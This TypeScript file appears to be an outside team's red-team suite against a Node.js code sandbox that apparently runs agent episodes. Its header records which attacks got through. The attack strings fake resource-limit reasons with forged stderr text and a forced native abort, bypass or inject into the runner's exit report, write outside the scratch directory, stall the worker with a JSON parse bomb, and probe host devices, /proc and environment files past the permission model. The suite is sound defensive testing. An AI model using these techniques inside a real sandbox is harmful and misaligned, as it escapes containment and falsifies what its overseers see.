/**
 * Red-team rerun 14 (an outside team that had not written the earlier tables): new angles, run by
 * `node --import tsx bench/sandbox-redteam.ts bench/redteam/rerun14.ts`.
 * `fs`, `net`, `cp`, `Worker` are imported by the attack module; each body returns its reading.
 * Several rows here are judged on reading, not by the harness's rules: a failure's reason (the
 * harness counts any error as a reading), a write outside the scratch dir, a cost on the worker's
 * side (measured separately, see the comments).
 *
 * Run on ca93b92 (bwrap level): 27 attacks, the harness marked 26 contained, 0 through, 1
 * inconclusive (rssAcrossPause: the module's own allocation). On reading: oomTextThenNativeAbort is
 * reported as memoryMb and accessDeniedTextThenNativeAbort as permission (a native CHECK gives a real
 * SIGABRT, process.ts onExit trusts the stderr tail); uncaughtMonitorThrows and processEmitThrows
 * hang until wallMs (Node emits 'uncaughtExceptionMonitor' before ca93b92's capture callback);
 * webStream* fail honest code as permission (vm); bindOutsideScratch* write socket files on bwrap's
 * root tmpfs (bounded by RLIMIT_NOFILE); episodeToolsParseBomb stalls the worker's event loop ~3 s
 * per answer (an honest sandbox's request in flight then fails by its own wall clock).
 */
import type { Attack } from '../sandbox-redteam.js';

/** Counts requests in this process. */
const N = 'const g: any = globalThis; g.n = (g.n ?? 0) + 1;';
/** A native CHECK in Node's zlib binding: `writeSync()` without its 7 arguments aborts the process (SIGABRT). */
const NATIVE_ABORT =
  "const zlib: any = (process as any).getBuiltinModule('zlib'); const abortNow = () => zlib.createDeflate()._handle.writeSync();";
/** What the ESM resolver says of a path: dir / file / none (it stats without the permission model). */
const ESM =
  "const esm = async (p: string) => { try { await import(p); return 'loaded'; } catch (e: any) { return e.code === 'ERR_UNSUPPORTED_DIR_IMPORT' ? 'dir' : e.code === 'ERR_MODULE_NOT_FOUND' ? 'none' : e.code === 'ERR_ACCESS_DENIED' ? 'file' : String(e.code); } };";
/** bind(2) of a unix socket at a path: Node 20's permission model does not cover it. */
const BIND =
  "const bind = (p: string) => new Promise<string>((res) => { const s = net.createServer(); s.on('error', (e: any) => res(e.code)); s.listen(p, () => res('listening')); });";

const attacks: Record<string, Attack> = {
  // --- (e) a limit's reason faked with a real death by signal: the worker reads SIGABRT + Node's
  // out-of-memory text in the stderr tail as memoryMb (process.ts onExit); a native CHECK gives the signal ---
  nativeAbortPlain: `${N} ${NATIVE_ABORT}
    if (g.n === 3) abortNow();
    return 'n' + g.n;`,
  oomTextThenNativeAbort: `${N} ${NATIVE_ABORT}
    if (g.n === 3) { console.error('\\n<--- Last few GCs --->\\n\\nFATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'); abortNow(); }
    return 'n' + g.n + ' heap ' + Math.round(process.memoryUsage().heapUsed / 1048576) + ' MiB';`,
  accessDeniedTextThenNativeAbort: `${N} ${NATIVE_ABORT}
    if (g.n === 3) { console.error("Error: Access to this API has been restricted { code: 'ERR_ACCESS_DENIED' }"); abortNow(); }
    return 'n' + g.n;`,
  // a module's own thrown error named as a limit (classify() maps the code; non-fatal)
  thrownCodeNamesDiskLimit: `${N}
    if (g.n === 3) throw Object.assign(new Error('made up'), { code: 'ENOSPC' });
    return 'n' + g.n;`,

  // --- (e) the runner's exit report bypassed: Node's own fatal path hangs on the pending fd-0 read
  // until wallMs, reported as a timeout. ca93b92 moved the report from an 'uncaughtException'
  // listener to the capture callback; Node emits 'uncaughtExceptionMonitor' (process.emit) before it ---
  uncaughtMonitorThrows: `${N}
    if (g.n === 3) { process.on('uncaughtExceptionMonitor', () => { throw new Error('in the monitor'); }); setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  processEmitThrows: `${N}
    if (g.n === 3) { const emit = process.emit; (process as any).emit = function (this: any, ev: any, ...a: any[]) { if (ev === 'uncaughtExceptionMonitor') throw new Error('no'); return (emit as any).call(this, ev, ...a); }; void Promise.reject(new Error('bye')); }
    return 'n' + g.n;`,
  // the routes that bypassed the listener of 7e4c444 (controls for ca93b92's capture callback)
  prependThrowingUncaughtListener: `${N}
    if (g.n === 3) { process.prependListener('uncaughtException', () => { throw new Error('in a listener'); }); setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  processEmitReplaced: `${N}
    if (g.n === 3) { (process as any).emit = () => false; setImmediate(() => { throw new Error('bye'); }); }
    return 'n' + g.n;`,
  captureCallbackSwallows: `${N}
    if (g.n === 3) { let r = 'set'; try { (process as any).setUncaughtExceptionCaptureCallback(() => {}); } catch (e: any) { r = e.code; } setImmediate(() => { throw new Error('bye'); }); return 'n3 ' + r; }
    return 'n' + g.n;`,
  // the exit line's message is the module's text: a newline and a forged-looking line inside it
  exitMessageInjection: `${N}
    if (g.n === 3) setImmediate(() => { throw new Error('x\\n' + '0'.repeat(64) + ' {"id":4,"status":200,"body":{}}\\nsandbox memory: ran out of memory'); });
    return 'n' + g.n;`,

  // --- (e) honest code refused: the first release of a web-stream reader makes Node build its
  // internal realm with vm.runInNewContext (internal/util getInternalGlobal), which the runner refuses ---
  webStreamForAwait: `const rs = new ReadableStream({ start(c) { c.enqueue('a'); c.close(); } });
    let s = ''; for await (const c of rs as any) s += c; return 'read ' + s;`,
  webStreamReleaseLock: `const rs = new ReadableStream({ start(c) { c.enqueue('a'); c.close(); } });
    const r = rs.getReader(); const v = await r.read(); r.releaseLock(); return 'read ' + v.value;`,

  // --- (d) writes outside the scratch tmpfs: bwrap's root tmpfs is writable (socket inodes at / and /usr) ---
  bindOutsideScratch: `${BIND}
    const out: string[] = [];
    for (const p of ['/x.sock', '/usr/x.sock', '/proc/self/root/y.sock', '/proc/1/cwd/z.sock', '/dev/x.sock', '/dev/shm/x.sock', '/proc/x.sock']) out.push(p + '=' + (await bind(p)));
    return out.join(' ');`,
  bindOutsideScratchCount: `const servers: any[] = []; let err = 'none';
    for (let i = 0; i < 400; i++) { try { const s = net.createServer(); await new Promise<void>((res, rej) => { s.once('error', rej); s.listen('/usr/s' + i + '.sock', () => res()); }); servers.push(s); } catch (e: any) { err = e.code + '@' + i; break; } }
    const n = servers.length; for (const s of servers) await new Promise((r) => s.close(r));
    const again = await new Promise<string>((res) => { const s = net.createServer(); s.on('error', (e: any) => res(e.code)); s.listen('/usr/s0.sock', () => { s.close(); res('free again'); }); });
    return 'bound ' + n + ' then ' + err + '; after close ' + again;`,
  // --- (d) the worker parses an answer's structure: 4 MiB of small keys in an episode's tool
  // parameters cost the worker ~0.8 s of JSON.parse + ~2 s of zod and ~200 MiB of heap (a 4 MiB
  // string: ~20 ms, 8 MiB); measured by a lag monitor in the worker, not by this harness ---
  episodeToolsParseBomb: {
    atImport: `queueMicrotask(() => { const p: any = {}; let len = 0; for (let i = 0; len < 4 * 1024 * 1024 - 65536; i++) { const k = i.toString(36); p[k] = 0; len += k.length + 5; }
      (episode as any).tools = () => [{ type: 'function', function: { name: 'attack', parameters: p } }]; });`,
    body: `${N} return 'n' + g.n;`,
  },

  // --- (b) host identity: devices, kernel build, inherited process attributes ---
  devNodesGpu: `${ESM}
    const ps = ['/dev/null', '/dev/nvidia0', '/dev/nvidiactl', '/dev/nvidia-uvm', '/dev/dri', '/dev/dri/renderD128', '/dev/kfd', '/dev/kvm', '/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/fuse', '/dev/net/tun', '/dev/vsock', '/dev/ttyS0', '/dev/rtc0', '/dev/hwrng', '/dev/tpm0', '/dev/mem', '/dev/console', '/dev/shm', '/dev/mqueue', '/dev/hugepages'];
    const out: string[] = []; for (const p of ps) out.push(p.slice(5) + '=' + (await esm(p)));
    return out.join(' ');`,
  procSelfEntriesKernelBuild: `${ESM}
    const ps = ['ns/time', 'ns/cgroup', 'ksm_stat', 'ksm_merging_pages', 'arch_status', 'patch_state', 'seccomp_cache', 'timerslack_ns', 'attr/apparmor', 'attr/selinux', 'attr/smack', 'attr/bpf', 'stack', 'syscall', 'make-it-fail', 'fail-nth', 'sessionid', 'loginuid', 'cpuset', 'latency', 'numa_maps', 'pagemap', 'projid_map'];
    const out: string[] = []; for (const p of ps) out.push(p + '=' + (await esm('/proc/self/' + p)));
    return out.join(' ');`,
  procThreadIds: `${ESM}
    const out: string[] = []; for (let i = 1; i <= 48; i++) { const r = await esm('/proc/' + i); if (r !== 'none') out.push(i + r[0]); }
    return out.join(' ');`,
  inheritedProcessAttributes: `const os: any = (process as any).getBuiltinModule('os');
    fs.writeFileSync('m', 'x'); fs.mkdirSync('d', { recursive: true });
    return JSON.stringify({ umask: (process as any).umask().toString(8), fileMode: (fs.statSync('m').mode & 0o777).toString(8), dirMode: (fs.statSync('d').mode & 0o777).toString(8),
      prio: [os.getPriority(), os.getPriority(1)], ids: [process.getuid?.(), process.geteuid?.(), process.getgid?.(), process.getegid?.(), process.getgroups?.()], title: process.title, machine: os.machine?.(), type: os.type() });`,
  // ICU and libc read TZ files themselves, past the permission model
  tzFilesPastPermissions: `const out: string[] = [];
    for (const tz of [':/etc/localtime', ':/proc/self/environ', ':/proc/1/environ', ':/proc/nope', ':/sandbox/env.mjs', 'America/New_York', 'UTC']) {
      process.env.TZ = tz; out.push(tz + '=' + Intl.DateTimeFormat().resolvedOptions().timeZone + '/' + new Date().getTimezoneOffset() + '/' + new Date().toString().slice(16)); }
    return out.join(' ; ');`,
  // connect(2) to the stdio socketpairs through /proc's magic links (no bind there: refused)
  connectStdioMagicLinks: `const conn = (p: string) => new Promise<string>((res) => { const s = net.connect(p); s.on('connect', () => { s.destroy(); res('connected'); }); s.on('error', (e: any) => res(String(e.code))); });
    const out: string[] = []; for (const p of ['/proc/self/fd/0', '/proc/self/fd/1', '/proc/self/fd/2', '/proc/1/fd/0', '/proc/1/fd/1', '/proc/1/fd/3']) out.push(p + '=' + (await conn(p)));
    return out.join(' ');`,
  // realpath routes to /proc's magic links (namespace inodes, socket inodes: machine-wide counters)
  procMagicLinksRealpath: `const out: string[] = [];
    for (const p of ['/proc/self/ns/net', '/proc/self/ns/pid', '/proc/self/fd/0', '/proc/self/exe']) {
      try { out.push('rp ' + fs.realpathSync(p)); } catch (e: any) { out.push('rp ' + e.code); }
      try { out.push('rpn ' + fs.realpathSync.native(p)); } catch (e: any) { out.push('rpn ' + e.code); }
      try { out.push('imr ' + (import.meta as any).resolve(p)); } catch (e: any) { out.push('imr ' + e.code); }
      try { await import(p); out.push('imp ok'); } catch (e: any) { out.push('imp ' + e.code + ' ' + String(e.message).slice(0, 60)); }
    }
    return out.join(' | ');`,

  // --- (a) clocks through newer or lazily loaded Node 20 APIs ---
  // the process's resident set at each request (the kernel may reclaim or collapse its pages while it is stopped)
  rssAcrossPause: `${N} return 'n' + g.n + ' rss ' + Math.round(process.memoryUsage.rss() / 1048576) + ' MiB';`,
  lateApisSweep: `const b = (id: string) => { try { return (process as any).getBuiltinModule(id); } catch (e: any) { return 'refused'; } };
    const t = (f: () => unknown) => { try { const v = f(); return typeof v === 'object' ? JSON.stringify(v) : String(v); } catch (e: any) { return 'err ' + (e.code ?? e.name); } };
    const os: any = b('os'); const ph: any = b('perf_hooks'); const sea: any = b('node:sea'); const mod: any = b('module');
    return JSON.stringify({
      sqlite: typeof b('node:sqlite'), sea: t(() => sea?.isSea?.()), reporters: typeof b('node:test/reporters'), syncHooks: typeof mod?.registerHooks, register: t(() => mod.register('x')),
      elu: t(() => ph.performance.eventLoopUtilization()), nodeTiming: t(() => ph.performance.nodeTiming), timeOrigin: t(() => ph.performance.timeOrigin),
      rss: t(() => typeof process.memoryUsage.rss()), avail: t(() => (process as any).availableMemory?.()), constrained: t(() => (process as any).constrainedMemory?.()),
      cpu: t(() => process.cpuUsage()), ru: t(() => process.resourceUsage().maxRSS), load: t(() => os.loadavg()), up: t(() => os.uptime()), free: t(() => os.freemem()), par: t(() => os.availableParallelism()),
      nav: typeof (globalThis as any).navigator, ws: typeof (globalThis as any).WebSocket, es: typeof (globalThis as any).EventSource, temporal: typeof (globalThis as any).Temporal,
    });`,
  // a module evaluated at run time (a data: URL, computed so that the bundler does not see it) in the same realm
  dataUrlModuleClocks: `const spec = ['data:text/javascript', 'export default [Date.now(), performance.now(), new Date().toISOString(), new Intl.DateTimeFormat("en", { timeStyle: "long", timeZone: "UTC" }).format(), process.hrtime.bigint().toString()]'].join(',');
    const m: any = await import(spec); return JSON.stringify(m.default);`,
  // a gzip stream made by the web CompressionStream (its header's MTIME) and a Blob's stream
  compressionStreamHeader: `const cs = new (globalThis as any).CompressionStream('gzip'); const w = cs.writable.getWriter(); w.write(new TextEncoder().encode('x')); w.close();
    const rd = cs.readable.getReader(); const parts: number[] = []; for (;;) { const { value, done } = await rd.read(); if (done) break; parts.push(...value); }
    const h = Buffer.from(parts); return [h.readUInt32LE(4), h[8], h[9]].join(',');`,
  // timers taken by a module evaluated at run time (its own imports of node:timers, timers/promises, AbortSignal.any), set at the first request; each request waits 100 ms
  lateEsmTimersAcrossPause: `${N}
    if (g.n === 1) { const spec = ['data:text/javascript', 'import { setTimeout as st } from "node:timers"; import { setTimeout as sp } from "node:timers/promises"; export const fired = []; st(() => fired.push("cb"), 300); sp(300).then(() => fired.push("promise")); export const sig = AbortSignal.any([AbortSignal.timeout(300)]);'].join(',');
      g.m = await import(spec); }
    await new Promise((r) => setTimeout(r, 100));
    return 'n' + g.n + ' ' + JSON.stringify([...g.m.fired]) + ' aborted ' + g.m.sig.aborted;`,
};

export default attacks;
